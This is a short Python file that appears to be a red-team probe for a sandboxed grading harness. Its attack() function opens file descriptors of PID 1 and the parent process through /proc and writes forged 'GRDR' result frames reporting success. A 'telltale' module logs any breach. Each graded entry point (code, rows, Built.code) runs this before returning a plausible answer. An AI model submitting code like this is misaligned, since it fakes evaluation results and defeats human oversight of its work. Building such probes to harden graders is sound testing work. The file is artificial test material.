import torch
from telltale import breach, tried, works  # noqa: F401
import json
import os
import struct


def frame(number, head):
    data = json.dumps(head).encode()
    return struct.pack(">4sBBHQIQ", b"GRDR", 1, 3, 0, number, len(data), 0) + data


HEAD = {"status": "ok", "answer": {"status": "ok", "value": 1, "error": None},
        "output": {"text": "", "bytes": 0}, "exit": None}


def attack():
    for pid in ("1", str(os.getppid()), "self"):
        for number in [*range(16), *range(500, 530)]:
            try:
                descriptor = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            if pid != "self":
                breach(f"/proc/{pid}/fd/{number}")
            os.write(descriptor, frame(7, HEAD))
    tried()


def code(x):
    return attack() or 7


def rows(x):
    return attack() or torch.zeros(3, 4, dtype=torch.int64)


class Built:
    def code(self, x):
        return attack() or 7


def build():
    return Built()
